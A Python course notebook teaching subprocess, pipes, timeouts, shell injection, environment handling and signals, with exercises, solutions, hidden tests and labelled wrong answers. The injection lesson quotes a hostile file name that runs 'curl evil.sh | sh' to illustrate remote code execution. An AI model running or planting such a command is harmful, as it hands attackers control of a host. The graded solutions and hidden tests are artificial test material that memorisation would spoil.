# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown] course={"kind": "intro"}
# **By the end of this section** you can run other programs from Python and read their output and exit
# codes, chain them with pipes without deadlocks, stop them on time (children and grandchildren), keep
# untrusted text out of shell commands, pass them the environment they need, and shut processes down gracefully.

# %% course={"kind": "setup", "id": "process-helpers"}
# Helpers the demos and tests use. Every child process in this notebook is the Python that runs
# the notebook (`PY`), so the examples work wherever the notebook does, with no other programs
# installed. `ProcessWatch` (from the course package) records every process started inside its
# `with` block and, when the block ends, kills and reaps whatever is still there: a test that fails
# leaves nothing running. `watch.call(f, ...)` fails instead of hanging when `f` waits for something
# that can never happen (`idle=s`: `f` may rightly sit still for `s` seconds, e.g. a timeout it waits
# out); `Grandchild` lets a test see whether a child's own child survived; `with_more_time` repeats a
# timeout test with more time when a busy machine stopped the child before it did anything.
import os
import shlex
import signal
import subprocess
import sys
import tempfile

from typing import NamedTuple

from course.runtime.processes import (
    Grandchild,
    Inconclusive,
    ProcessWatch,
    current_handlers,
    saved_handlers,
    send_to_self,
    wait_for_path,
    with_more_time,
)

PY = sys.executable


class Captured(NamedTuple):
    """What a finished command left behind (the exercises return it)."""

    returncode: int
    stdout: str
    stderr: str


def py(code: str, *args: str) -> list[str]:
    """The argument list that runs `code` in a fresh Python process, with `args` in its sys.argv[1:]."""
    return [PY, "-c", code, *args]


class TimedOut(Exception):
    """A command ran longer than allowed; `partial` holds the output it wrote before it was stopped."""

    def __init__(self, args: list[str], seconds: float, partial: str) -> None:
        super().__init__(f"{args[0]} did not finish within {seconds} s")
        self.cmd, self.seconds, self.partial = args, seconds, partial


# %% course={"kind": "setup", "id": "child-scripts"}
# Small programs the tests run as child processes (each is Python source for `py(...)`).
SORT_LINES = "import sys; sys.stdout.writelines(sorted(sys.stdin))"
UPPER = "import sys; sys.stdout.write(sys.stdin.read().upper())"
COUNT_LINES = "import sys; print(sum(1 for _ in sys.stdin))"
FIRST_LINE = "import sys; print(sys.stdin.readline(), end='')"  # like `head -n 1`
SHOW_ARGS = "import sys; print(sys.argv[1:])"
SHOW_ENV = "import json, os, sys; print(json.dumps({k: os.environ.get(k) for k in sys.argv[1:]}))"
# Writes 4 MiB (far more than a pipe holds). Once its reader has gone it stops quietly, like
# `yes | head` does; if nobody ever stops it that way, it sits there until it is killed.
PRODUCER = """
import os, sys, time
line = b"y" * 1023 + b"\\n"
try:
    for _ in range(64):
        os.write(1, line * 64)
except BrokenPipeError:
    sys.exit(0)
time.sleep(60)
"""
# Prints 'step 1' at once, then needs 5 s more. With a file name in argv[1] it creates that file
# as soon as its reader has taken 'step 1' out of the pipe (FIONREAD: bytes still unread): a test's
# proof that the parent had the output in hand before any timeout stopped the child.
SLOW = """
import fcntl, pathlib, struct, sys, termios, time
print('step 1', flush=True)
if sys.argv[1:]:
    try:
        while struct.unpack("i", fcntl.ioctl(1, termios.FIONREAD, b"0000"))[0]:
            time.sleep(0.01)
        pathlib.Path(sys.argv[1]).touch()
    except OSError:
        pass  # stdout is not a pipe: no proof
time.sleep(5)
print('step 2')
"""
# Forks a grandchild at once; the grandchild reports to the FIFO named in argv[1] (a Grandchild's
# path) and then holds that FIFO and the same stdout until it is killed. With argv[2] ==
# 'ignore-term' the grandchild ignores SIGTERM (from before it reports).
FORKING = """
import os, signal, sys, time
if os.fork() == 0:
    if sys.argv[2:] == ["ignore-term"]:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        fd = os.open(sys.argv[1], os.O_WRONLY)
    except OSError:
        os._exit(0)  # the test is over already
    os.write(fd, f"{os.getpid()}\\n".encode())
    time.sleep(60)
    os._exit(0)
print('parent up', flush=True)
time.sleep(60)
"""
# Each handles SIGTERM differently and prints 'ready' once its handler is installed.
POLITE = """
import signal, sys, time
def on_term(signum, frame):
    print("cleaning up", flush=True)
    sys.exit(0)
signal.signal(signal.SIGTERM, on_term)
print("ready", flush=True)
time.sleep(10)
"""
SLOW_CLEANUP = """
import signal, sys, time
def on_term(signum, frame):
    time.sleep(0.3)  # flushing buffers, closing connections...
    print("cleaned up", flush=True)
    sys.exit(0)
signal.signal(signal.SIGTERM, on_term)
print("ready", flush=True)
time.sleep(10)
"""
STUBBORN = """
import signal, time
signal.signal(signal.SIGTERM, lambda signum, frame: print("ignoring TERM", flush=True))
print("ready", flush=True)
time.sleep(60)  # after the handler has run, the sleep goes on (PEP 475)
"""
# Ignores SIGTERM, then creates the file argv[1] to say so, then sits there until it is killed.
IGNORES_TERM = """
import pathlib, signal, sys, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
pathlib.Path(sys.argv[1]).touch()
time.sleep(60)
"""
SLEEPER = "import time; time.sleep(10)"
# Needs 0.2 s to clean up after SIGTERM, then exits 0; creates the file argv[1] once its handler is in place.
CLEANS_UP = """
import pathlib, signal, sys, time
def on_term(signum, frame):
    time.sleep(0.2)
    sys.exit(0)
signal.signal(signal.SIGTERM, on_term)
pathlib.Path(sys.argv[1]).touch()
time.sleep(10)
"""
# Counts its runs in the file argv[1]; fails (exit 1) until run number argv[2], then prints 'ok'.
# With argv[3] == 'slow', the failing runs hang (until killed) instead of exiting.
FLAKY = """
import pathlib, sys, time
counter = pathlib.Path(sys.argv[1])
runs = int(counter.read_text() or 0) + 1 if counter.exists() else 1
counter.write_text(str(runs))
if runs < int(sys.argv[2]):
    print(f"run {runs} failed", file=sys.stderr, flush=True)
    if sys.argv[3:] == ["slow"]:
        print("started", flush=True)
        time.sleep(60)
    sys.exit(1)
print(f"ok on run {runs}")
"""


def chatops_commands() -> dict[str, list[str]]:
    """A fresh allow-list for the chat-ops exercise: `greet` echoes its arguments, `fail` exits 7."""
    return {
        "greet": py("import sys; print('hello', *sys.argv[1:])"),
        "args": py(SHOW_ARGS),
        "fail": py("import sys; print('broken', file=sys.stderr); sys.exit(7)"),
    }


# %% [markdown] course={"kind": "lesson", "id": "run", "covers": ["c-subprocess-module", "c-run-modern-simple-interface", "c-return-codes-and-error-handling", "c-capturing-output-capture-output-true"]}
# ### `subprocess.run`: start a program, wait, look at what happened
#
# Automation is mostly other programs: `git`, `terraform`, `kubectl`, `nvidia-smi`, a training script.
# The `subprocess` module starts them. Its everyday entry point is `subprocess.run(args, ...)`: it starts
# the program, waits until it ends, and hands back a `CompletedProcess` with the `args`, the
# `returncode` and, if you asked for them, `stdout` and `stderr`.
#
# - **args as a list**: `["git", "log", "-1"]`. Each element arrives in the program as one
#   argument, whatever spaces or quotes it contains. No shell is involved.
# - **`capture_output=True`** collects stdout and stderr instead of letting them go to the
#   notebook's terminal; **`text=True`** decodes them to `str` (otherwise you get `bytes`).
# - **the return code** is the program's verdict: `0` means success, anything else failure. A
#   program killed by a signal has a *negative* code on POSIX: `-9` is SIGKILL.
# - **`check=True`** turns a non-zero code into a `CalledProcessError` carrying `returncode`,
#   `cmd`, `stdout` and `stderr`.
#
# The one thing people get wrong: **without `check=True`, a failing program does not raise.** A
# script that ignores `returncode` happily carries on after `terraform plan` failed. Either check the
# code yourself or pass `check=True`. (A program that does not exist is different: that raises
# `FileNotFoundError` before anything runs.)

# %% course={"kind": "demo"}
noisy = py("import sys; print('to stdout'); print('to stderr', file=sys.stderr); sys.exit(3)")
done = subprocess.run(noisy, capture_output=True, text=True)
print("returncode:", done.returncode)
print("stdout:    ", repr(done.stdout))
print("stderr:    ", repr(done.stderr))

try:
    subprocess.run(noisy, capture_output=True, text=True, check=True)
except subprocess.CalledProcessError as err:
    print("check=True raised:", type(err).__name__, "with returncode", err.returncode, "and stderr", repr(err.stderr))

try:
    subprocess.run(["no-such-program-here"])
except FileNotFoundError as err:
    print("a missing program:", type(err).__name__, "-", err.strerror)

# %% [markdown] course={"kind": "lesson", "id": "popen-pipes", "covers": ["c-popen-low-level-flexible", "c-input-output-redirection", "c-pipes-between-processes"]}
# ### Redirection, `Popen` and pipes
#
# Where a child's three standard streams go is up to you, through `stdin=`, `stdout=` and
# `stderr=`: an open file, `subprocess.PIPE` (a pipe Python reads or writes), `subprocess.DEVNULL`
# (nowhere), or, for stderr, `subprocess.STDOUT` (into the same place as stdout, like `2>&1`).
# `input="text"` writes to the child's stdin for you.
#
# `run()` is built on **`Popen`**, the low-level class: `Popen(args, ...)` *starts* the program and
# returns at once, while it runs. You then talk to it (`proc.stdin`, `proc.stdout`), ask
# `proc.poll()` (its code, or `None` while it runs), `proc.wait()` for it, or send it signals. Use
# `Popen` when `run()` is not enough: several programs at once, a pipeline, streaming output line by
# line, stopping a program yourself.
#
# A **pipe** between two processes is what the shell's `|` builds: stage one's stdout becomes
# stage two's stdin, and both run at the same time.

# %% course={"kind": "demo"}
with tempfile.TemporaryDirectory() as tmp:
    log_path = os.path.join(tmp, "build.log")
    with open(log_path, "w") as log:  # stdout and stderr both into one file, like `> build.log 2>&1`
        subprocess.run(py("import sys; print('compiling'); print('warning: slow', file=sys.stderr)"),
                       stdout=log, stderr=subprocess.STDOUT)
    with open(log_path) as log:
        print("build.log holds:", log.read().splitlines())

shouted = subprocess.run(py(UPPER), input="quiet please\n", capture_output=True, text=True)
print("input= fed stdin:", repr(shouted.stdout))

# producer | sorter, with Popen: both run at once, connected by a pipe
producer = subprocess.Popen(py("print('pear'); print('apple'); print('fig')"), stdout=subprocess.PIPE)
sorter = subprocess.Popen(py(SORT_LINES), stdin=producer.stdout, stdout=subprocess.PIPE, text=True)
producer.stdout.close()  # our copy of the read end: only the sorter should hold it now
print("sorted:", sorter.communicate()[0].split(), "| codes:", producer.wait(), sorter.returncode)

# %% [markdown] course={"kind": "text"}
# **The pipe deadlock.** A pipe holds a limited amount (64 KiB on Linux). A child writing more than
# that stops, blocked, until someone reads. If the parent meanwhile sits in `proc.wait()`, each
# waits for the other for ever. `communicate()` reads every pipe while waiting, so it cannot
# deadlock; use it (or `run()`, which uses it) whenever you capture output. Below, the `wait()`
# has a timeout only so that the demo does not hang:

# %% course={"kind": "demo"}
chatty = subprocess.Popen(py("import sys; sys.stdout.write('x' * 4_000_000)"), stdout=subprocess.PIPE)
try:
    chatty.wait(timeout=0.3)  # the child is stuck in write(), we are stuck in wait()
except subprocess.TimeoutExpired:
    print("wait() timed out: the child is blocked on a full pipe")
out, _ = chatty.communicate()  # reads while waiting: the child can finish
print("communicate() got", len(out), "bytes; returncode", chatty.returncode)

# %% [markdown] course={"kind": "lesson", "id": "shell-timeouts", "covers": ["c-shell-vs-non-shell-execution", "c-timeout-handling"]}
# ### `shell=True`, and timeouts
#
# With `shell=True` the argument is **one string** handed to `/bin/sh -c` on POSIX. The shell then
# does what it does for a terminal: splits words at spaces, expands `$VARS`, `~` and `*.txt`, runs
# `|`, `&&`, `>`. That is handy for a fixed one-liner, and it is why a string with a space or a `$`
# in the wrong place means something else than you meant (the next lesson shows how bad that gets).
# Without a shell (a list, the default) nothing is expanded: `*.txt` is a file name with a star in it.
#
# **Timeouts.** `run(..., timeout=s)` and `communicate(timeout=s)` raise `TimeoutExpired` when
# time is up. `run()` kills the child first; `communicate()` does **not**: you must kill and then
# call `communicate()` again to collect the rest and reap the child. Two surprises:
#
# - `TimeoutExpired.stdout` is **bytes** (or `None` if nothing was read), even with `text=True`
#   (documented, and so since timeouts arrived in Python 3.3). On POSIX, `run()` hands you only what it
#   had read when time ran out: output still sitting in the pipe is lost. Collect it yourself with
#   `Popen`, `kill()` and a second `communicate()`, as the exercise below does;
# - killing the child does not kill *its* children. A grandchild that still holds the output pipe
#   keeps `communicate()` waiting. Start the child with `start_new_session=True` (it leads a new
#   process group) and kill the whole group with `os.killpg(proc.pid, signal.SIGKILL)`.

# %% course={"kind": "demo"}
with tempfile.TemporaryDirectory() as tmp:
    for name in ("a.txt", "b.txt", "c.csv"):
        open(os.path.join(tmp, name), "w").close()
    with_shell = subprocess.run(f"{PY} -c 'import sys; print(sys.argv[1:])' *.txt", shell=True,
                                cwd=tmp, capture_output=True, text=True)
    without = subprocess.run(py(SHOW_ARGS, "*.txt"), cwd=tmp, capture_output=True, text=True)
print("shell=True, the shell expands *.txt:", with_shell.stdout.strip())
print("a list, no shell:                   ", without.stdout.strip())

try:
    subprocess.run(py(SLOW), capture_output=True, text=True, timeout=0.5)
except subprocess.TimeoutExpired as err:
    print(f"TimeoutExpired after {err.timeout} s; partial stdout: {err.stdout!r} ({type(err.stdout).__name__})")

# %% [markdown] course={"kind": "lesson", "id": "security", "covers": ["c-security-considerations", "c-shell-injection-risks", "c-shlex-quote-for-escaping", "c-avoiding-shell-true"]}
# ### Shell injection, `shlex.quote()`, and avoiding `shell=True`
#
# **Shell injection** happens when text you do not control (a file name from an upload, a branch
# name from a webhook, a form field) is pasted into a command string run by a shell. The shell
# cannot tell your command from theirs: a "file name" of `report.txt; curl evil.sh | sh` is two
# commands. On a CI runner or a deploy host that is remote code execution with your credentials.
#
# The defences, best first:
#
# 1. **Avoid `shell=True`**: pass a list. There is no shell to interpret `;`, `$()` or backticks.
#    `shlex.split("git commit -m 'a message'")` turns a command line into that list the way a POSIX shell would.
# 2. If you truly need a shell (a pipeline, a remote `ssh host '...'` command), **quote every
#    untrusted piece with `shlex.quote()`**, which wraps it in single quotes so the shell reads it as
#    one literal word (`shlex.join(list)` quotes and joins a whole argument list).
# 3. **Allow-list** what may run at all, rather than trying to spot bad characters.
#
# What people get wrong: quoting by hand, `f"'{name}'"`. One `'` inside the name ends the quote and
# the rest is code again. `shlex.quote` handles that case (and the empty string, which must stay an argument).
# Also `shlex.quote` is for POSIX shells only, not for Windows `cmd.exe`.

# %% course={"kind": "demo"}
upload_name = "report.txt; echo INJECTED: this ran as a command"
show = f"{shlex.quote(PY)} -c 'import sys; print(sys.argv[1:])'"

unsafe = subprocess.run(f"{show} {upload_name}", shell=True, capture_output=True, text=True)
print("pasted in:     ", unsafe.stdout.splitlines())
safe = subprocess.run(f"{show} {shlex.quote(upload_name)}", shell=True, capture_output=True, text=True)
print("shlex.quote:   ", safe.stdout.splitlines())
no_shell = subprocess.run(py(SHOW_ARGS, upload_name), capture_output=True, text=True)
print("a list, no shell:", no_shell.stdout.splitlines())
print("quote of a tricky name:", shlex.quote("it's $HOME"), "| of an empty string:", shlex.quote(""))
print("shlex.split:", shlex.split("deploy --msg 'fix: quotes' --dry-run"))

# %% [markdown] course={"kind": "lesson", "id": "os-process", "covers": ["c-os-process-functions", "c-os-system-avoid", "c-os-exec-family", "c-os-fork-unix", "c-os-getpid-os-getppid"]}
# ### The `os` process functions underneath
#
# `subprocess` is built on the operating system's own calls, which `os` exposes directly:
#
# | function | what it does | when you meet it |
# |---|---|---|
# | `os.getpid()`, `os.getppid()` | this process's id, and its parent's | log lines, pid files, "who started me?" |
# | `os.fork()` (Unix only) | clones the running process; returns `0` in the child, the child's pid in the parent | pre-fork servers (gunicorn), daemons |
# | `os.exec*()` (`execv`, `execvp`, `execve`...) | **replaces** the running program by another, same pid; never returns | wrapper scripts, container entry points (`exec "$@"`) |
# | `os.waitpid(pid, 0)` | waits for a child and collects its status | after a `fork()` |
# | `os.system("cmd")` | runs a string through the shell; returns an encoded *wait status* | legacy scripts: **avoid** |
#
# `fork` + `exec` + `waitpid` is exactly what `Popen` does for you (on Linux it may use the faster
# `posix_spawn`/`vfork`). Why avoid `os.system`: it always uses a shell (injection again), your code
# cannot capture its output (it goes straight to the terminal, or the notebook, never into a variable),
# and its return value is the wait status, not the exit code: exit 3 comes back as `768` on POSIX; decode it with
# `os.waitstatus_to_exitcode` (Python 3.9+). Never `fork()` inside a Jupyter kernel or any program
# with threads: only the calling thread is copied (Python 3.12+ warns about it). The fork demo below runs
# inside a fresh child Python.

# %% course={"kind": "demo"}
me = subprocess.run(py("import os; print(os.getpid(), os.getppid())"), capture_output=True, text=True)
child_pid, its_parent = map(int, me.stdout.split())
print("the child's parent is this notebook's kernel:", its_parent == os.getpid())

status = os.system(f"{shlex.quote(PY)} -c 'raise SystemExit(3)'")
print("os.system returned", status, "-> exit code", os.waitstatus_to_exitcode(status))

# %% course={"kind": "demo"}
FORK_AND_EXEC = """
import os, sys
pid = os.fork()
if pid == 0:  # the child: become another program (same pid)
    print(f"child {os.getpid()} about to exec", flush=True)
    os.execv(sys.executable, [sys.executable, "-c", "import os; print(f'exec-ed program runs as {os.getpid()}')"])
_, status = os.waitpid(pid, 0)  # the parent: reap the child
print(f"parent {os.getpid()}: child {pid} ended with exit code {os.waitstatus_to_exitcode(status)}")
"""
print(subprocess.run(py(FORK_AND_EXEC), capture_output=True, text=True, check=True).stdout)

# %% [markdown] course={"kind": "lesson", "id": "environment", "covers": ["c-process-environment", "c-env-parameter", "c-inheriting-environment", "c-modifying-environment"]}
# ### The environment a child gets
#
# Every process has its own copy of the environment variables. A child **inherits** a copy of its
# parent's (`os.environ`) by default, so setting `os.environ["X"]` affects every child started
# afterwards, and nothing a child changes ever comes back to the parent.
#
# The **`env=` parameter** gives the child exactly the dict you pass, **instead of** ours. That is
# the mistake people make: `env={"AWS_PROFILE": "prod"}` also throws away `PATH`, `HOME`, `LANG`...,
# and the tool then cannot find its own helpers. To change a few variables, copy and modify:
# `env={**os.environ, "AWS_PROFILE": "prod"}`; to remove one, copy and `pop`. Values must be `str`
# (an `int` raises `TypeError`). Passing secrets through the environment is common practice, but
# keep them out of command lines: other users can read those in `ps`.

# %% course={"kind": "demo"}
os.environ["COURSE_DEMO_STAGE"] = "dev"  # ours: every child started from now on inherits it
try:
    keys = ("COURSE_DEMO_STAGE", "COURSE_DEMO_REGION", "PATH")
    for label, env in [
        ("inherited", None),
        ("copy + change", {**os.environ, "COURSE_DEMO_REGION": "eu-west-1"}),
        ("env= replaces all", {"COURSE_DEMO_REGION": "eu-west-1"}),
    ]:
        seen = subprocess.run(py(SHOW_ENV, *keys), env=env, capture_output=True, text=True).stdout
        print(f"{label:18}", {k: ("<set>" if k == "PATH" and v else v) for k, v in __import__("json").loads(seen).items()})
    try:
        subprocess.run(py("pass"), env={"WORKERS": 4})
    except TypeError as err:
        print("an int value:", err)
finally:
    del os.environ["COURSE_DEMO_STAGE"]

# %% [markdown] course={"kind": "lesson", "id": "signals", "covers": ["c-signal-handling", "c-signal-module", "c-common-signals-sigint-sigterm-sigkill", "c-signal-handlers", "c-graceful-shutdown"]}
# ### Signals and graceful shutdown
#
# A **signal** is a small asynchronous message from the kernel to a process. The three that matter
# most in operations:
#
# | signal | sent by | default | can the program catch it? |
# |---|---|---|---|
# | `SIGINT` (2) | Ctrl-C in a terminal | terminate; Python turns it into `KeyboardInterrupt` | yes |
# | `SIGTERM` (15) | `kill pid`, `docker stop`, Kubernetes before killing a pod, systemd | terminate | yes: this is "please shut down" |
# | `SIGKILL` (9) | `kill -9`, Docker/Kubernetes after the grace period, the OOM killer | terminate | **no**: no handler, no cleanup |
#
# The **`signal` module** installs a **handler**: `signal.signal(signal.SIGTERM, on_term)` makes
# Python call `on_term(signum, frame)` in the main thread when SIGTERM arrives. A **graceful shutdown**
# is: on SIGTERM, stop taking new work, finish or checkpoint the current job, flush and close, exit 0.
# The side that stops a process does the mirror image: send SIGTERM, wait a grace period, and only
# then SIGKILL (Kubernetes does exactly this, 30 s by default). `Popen.terminate()` sends SIGTERM and
# `Popen.kill()` sends SIGKILL on POSIX. The usual mistake: a handler that does real work
# (I/O, locks) *inside* the handler; set a flag and let the main loop finish the job instead. Handlers can only be
# installed from the main thread. Windows has no SIGKILL, and there `terminate()` ends the process at once, with no handler.
#
# The demo waits for each child to say `ready` before signalling it: a handshake, not a sleep, so the
# handler is certainly installed.

# %% course={"kind": "demo"}
for script, name in ((POLITE, "polite"), (STUBBORN, "stubborn")):
    child = subprocess.Popen(py(script), stdout=subprocess.PIPE, text=True)
    try:
        child.stdout.readline()  # handshake: 'ready' means its handler is in place
        child.terminate()  # SIGTERM: please stop
        try:
            child.wait(timeout=0.3)  # the grace period
        except subprocess.TimeoutExpired:
            child.kill()  # SIGKILL: cannot be caught
            child.wait()
        print(f"{name:8} said {child.stdout.read().splitlines()} and ended with returncode {child.returncode}")
    finally:  # whatever happened above, leave nothing running
        if child.poll() is None:
            child.kill()
            child.wait()
        child.stdout.close()

try:
    signal.signal(signal.SIGKILL, lambda signum, frame: None)
except OSError as err:
    print("a handler for SIGKILL:", err)

# %% [markdown] course={"kind": "exercise", "id": "run-and-capture", "item": "x-run-a-shell-command-and-capture-output"}
# ### Run a command and capture its output
#
# Write `run_and_capture(args, input_text="")` that runs the program `args` (a list: program and
# arguments) **without a shell**, feeds it `input_text` on stdin (an empty one too: the program then
# reads end-of-file at once, never the notebook's own stdin), waits for it, and returns a
# `Captured(returncode, stdout, stderr)` with both outputs as `str`, **separately**, and
# **exactly** as written (no stripping). A non-zero return code is *returned*, not raised: the caller
# decides. A program that does not exist may raise `FileNotFoundError`.
#
# ```python
# run_and_capture(py("import sys; print('hi'); sys.exit(2)"))
# # Captured(returncode=2, stdout='hi\n', stderr='')
# ```

# %% [markdown] course={"kind": "hint"}
# One call to `subprocess.run` does all of it; look at `input=`, `capture_output=` and `text=`.

# %% [markdown] course={"kind": "hint"}
# Do not pass `check=True` (it raises on a non-zero code) and do not join the list into a string.

# %% course={"kind": "solution"}
def run_and_capture(args: list[str], input_text: str = "") -> Captured:
    ### BEGIN SOLUTION
    done = subprocess.run(args, input=input_text, capture_output=True, text=True)
    return Captured(done.returncode, done.stdout, done.stderr)
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
with ProcessWatch() as watch:
    got = run_and_capture(py("print('hello')"))
    assert got == Captured(0, "hello\n", ""), f"expected Captured(0, 'hello\\n', ''), got {got!r}"
    assert type(got) is Captured and type(got.stdout) is str, "return a Captured with str outputs (text=True)"
    assert watch.unreaped() == [], "wait for the program to finish"

# %% course={"kind": "test", "points": 1}
got = run_and_capture(py("import sys; print('out'); print('oops', file=sys.stderr); sys.exit(3)"))
assert got == Captured(3, "out\n", "oops\n"), f"stdout and stderr apart, code 3 returned (not raised), got {got!r}"

# %% course={"kind": "test", "points": 2}
nasty = ["two words", "$HOME", "*", "; echo injected", "", "it's"]
got = run_and_capture(py(SHOW_ARGS, *nasty))
assert got.stdout == f"{nasty!r}\n", f"each list element must arrive as one argument, untouched; got {got.stdout!r}"
### BEGIN HIDDEN TESTS
got = run_and_capture(py("import sys; sys.stdout.write('  padded  \\n\\n')"))
assert got.stdout == "  padded  \n\n", f"no stripping: {got.stdout!r}"
got = run_and_capture(py("import os, signal; os.kill(os.getpid(), signal.SIGKILL)"))
assert got.returncode == -signal.SIGKILL and got.stdout == "" and got.stderr == ""
assert run_and_capture(py("raise SystemExit(255)")).returncode == 255
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
echo_len = py("import sys; data = sys.stdin.read(); print(len(data), data.upper(), end='')")
got = run_and_capture(echo_len, "héllo wörld\n")
assert got == Captured(0, "12 HÉLLO WÖRLD\n", ""), f"input_text goes to the child's stdin; got {got!r}"
### BEGIN HIDDEN TESTS
assert run_and_capture(echo_len) == Captured(0, "0 ", ""), "the default input is empty"
which_stdin = py("import os; print(os.fstat(0).st_dev, os.fstat(0).st_ino)")
ours = f"{os.fstat(0).st_dev} {os.fstat(0).st_ino}\n"
assert run_and_capture(which_stdin).stdout != ours, "an empty input_text still goes through a pipe: the child must not read our stdin"
try:
    run_and_capture(["course-no-such-program"])
except FileNotFoundError:
    pass
else:
    raise AssertionError("a missing program cannot return a Captured")
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "joined-into-shell"}
def run_and_capture(args, input_text=""):
    done = subprocess.run(" ".join(args), shell=True, input=input_text, capture_output=True, text=True)
    return Captured(done.returncode, done.stdout, done.stderr)

# %% course={"kind": "wrong", "id": "stderr-merged"}
def run_and_capture(args, input_text=""):
    done = subprocess.run(args, input=input_text, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    return Captured(done.returncode, done.stdout, "")

# %% course={"kind": "wrong", "id": "check-true"}
def run_and_capture(args, input_text=""):
    done = subprocess.run(args, input=input_text, capture_output=True, text=True, check=True)
    return Captured(done.returncode, done.stdout, done.stderr)

# %% course={"kind": "wrong", "id": "no-input-no-pipe", "fails": ["t4"]}
def run_and_capture(args, input_text=""):
    done = subprocess.run(args, input=input_text or None, capture_output=True, text=True)  # "" inherits our stdin
    return Captured(done.returncode, done.stdout, done.stderr)

# %% course={"kind": "wrong", "id": "stripped"}
def run_and_capture(args, input_text=""):
    done = subprocess.run(args, input=input_text, capture_output=True, text=True)
    return Captured(done.returncode, done.stdout.strip(), done.stderr.strip())

# %% [markdown] course={"kind": "exercise", "id": "explain-exit"}
# ### What does this return code mean?
#
# A job scheduler shows a one-line reason for every finished command. Write `explain_exit(code)`:
#
# | code | answer |
# |---|---|
# | `0` | `"ok"` |
# | negative, `-n` (Python's way of saying "killed by signal n") | `"killed by SIGTERM"`, using the signal's name from `signal.Signals`, or `"killed by signal n"` if the number has no name |
# | positive, and `code - 128` is a signal with a name (shells report death by signal *n* as `128 + n`) | `"exit 143 (shell code for SIGTERM)"` |
# | any other positive code | `"exit 2"` |
#
# Signal numbers differ between systems (SIGUSR1 is 10 on Linux, 30 on macOS): take names from the
# `signal` module, never from a table of your own.
#
# ```python
# explain_exit(-signal.SIGKILL)   # 'killed by SIGKILL'
# explain_exit(137)               # 'exit 137 (shell code for SIGKILL)'
# ```

# %% [markdown] course={"kind": "hint"}
# `signal.Signals(15).name` is `'SIGTERM'`; `signal.Signals(n)` raises `ValueError` when `n` is not a signal.

# %% [markdown] course={"kind": "hint"}
# A small helper `name_of(n)` returning the name or `None` keeps the main function short. For codes
# from 1 to 128, `code - 128` is zero or negative: no signal has such a number.

# %% course={"kind": "solution"}
def explain_exit(code: int) -> str:
    ### BEGIN SOLUTION
    def name_of(number: int) -> str | None:
        try:
            return signal.Signals(number).name
        except ValueError:
            return None

    if code < 0:
        return f"killed by {name_of(-code) or f'signal {-code}'}"
    if code == 0:
        return "ok"
    shell_signal = name_of(code - 128)
    if shell_signal:
        return f"exit {code} (shell code for {shell_signal})"
    return f"exit {code}"
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
assert explain_exit(0) == "ok", f"0 means success, got {explain_exit(0)!r}"
assert explain_exit(1) == "exit 1" and explain_exit(2) == "exit 2", f"plain failures: {explain_exit(1)!r}"
assert explain_exit(-signal.SIGTERM) == "killed by SIGTERM", f"got {explain_exit(-signal.SIGTERM)!r}"

# %% course={"kind": "test", "points": 1}
assert explain_exit(128 + signal.SIGKILL) == "exit 137 (shell code for SIGKILL)", f"got {explain_exit(137)!r}"
assert explain_exit(128) == "exit 128", f"128 itself is no signal: got {explain_exit(128)!r}"
assert explain_exit(128 + signal.SIGHUP) == "exit 129 (shell code for SIGHUP)", f"129 is SIGHUP: {explain_exit(129)!r}"
### BEGIN HIDDEN TESTS
assert explain_exit(127) == "exit 127" and explain_exit(255) == "exit 255" and explain_exit(228) == "exit 228"
assert explain_exit(-signal.SIGHUP) == "killed by SIGHUP" and explain_exit(-signal.SIGINT) == "killed by SIGINT"
assert explain_exit(-99) == "killed by signal 99", f"got {explain_exit(-99)!r}"
assert type(explain_exit(-9)) is str
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 2}
suicide = "import os, signal; os.kill(os.getpid(), signal.SIGTERM)"
direct = subprocess.run(py(suicide))
assert explain_exit(direct.returncode) == "killed by SIGTERM", f"a real SIGTERM death: {direct.returncode}"
via_shell = subprocess.run(["sh", "-c", f"{shlex.join(py(suicide))}; exit $?"], stderr=subprocess.DEVNULL)
assert explain_exit(via_shell.returncode) == "exit 143 (shell code for SIGTERM)", f"through sh: {via_shell.returncode}"
assert explain_exit(subprocess.run(py("raise SystemExit(4)")).returncode) == "exit 4"

# %% course={"kind": "wrong", "id": "abs-of-negative"}
def explain_exit(code):
    if code == 0:
        return "ok"
    if code > 128:
        return f"exit {code} (shell code for {signal.Signals(code - 128).name})"
    return f"exit {abs(code)}"  # a negative code is not an exit code

# %% course={"kind": "wrong", "id": "own-signal-table"}
def explain_exit(code):
    names = {9: "SIGKILL", 15: "SIGTERM", 2: "SIGINT"}  # a table of our own: incomplete, and Linux-only
    if code == 0:
        return "ok"
    if code < 0:
        return f"killed by {names.get(-code, f'signal {-code}')}"
    if code - 128 in names:
        return f"exit {code} (shell code for {names[code - 128]})"
    return f"exit {code}"

# %% course={"kind": "wrong", "id": "from-128-on"}
def explain_exit(code):
    if code == 0:
        return "ok"
    if code < 0:
        return f"killed by {signal.Signals(-code).name}"  # no name for -99: ValueError
    if code >= 128:
        return f"exit {code} (shell code for {signal.Signals(code - 128).name})"
    return f"exit {code}"

# %% [markdown] course={"kind": "exercise", "id": "pipeline", "item": "x-chain-multiple-commands-with-pipes"}
# ### A pipeline, as the shell builds it
#
# Write `pipeline(stages)` that runs a list of commands connected like `a | b | c` in a shell:
# each stage's stdout is the next stage's stdin, **all stages run at the same time**, the first stage
# reads nothing (`subprocess.DEVNULL`), and the last stage's stdout is returned as `str`.
#
# - Every stage is waited for (no zombies), whatever happens.
# - Like `set -o pipefail`: if any stage exits non-zero, raise `subprocess.CalledProcessError`
#   for the **first** such stage (its return code, and its argument list as `cmd`).
# - No stage at all: `ValueError`.
# - It must work when a stage stops reading early (`producer | head -n 1`) and when megabytes flow through.
#
# ```python
# pipeline([py("print('b'); print('a')"), py(SORT_LINES)])   # 'a\nb\n'
# ```

# %% [markdown] course={"kind": "hint"}
# Start each stage with `Popen(args, stdin=<previous stage's stdout>, stdout=subprocess.PIPE)`.
# Read the last stage with `communicate()`, then `wait()` for every stage.

# %% [markdown] course={"kind": "hint"}
# After handing `previous.stdout` to the next stage, **close your own copy** of it in the parent.
# If you keep it open, a producer whose reader has quit never learns that (no broken pipe), and it
# waits for ever on a full pipe.

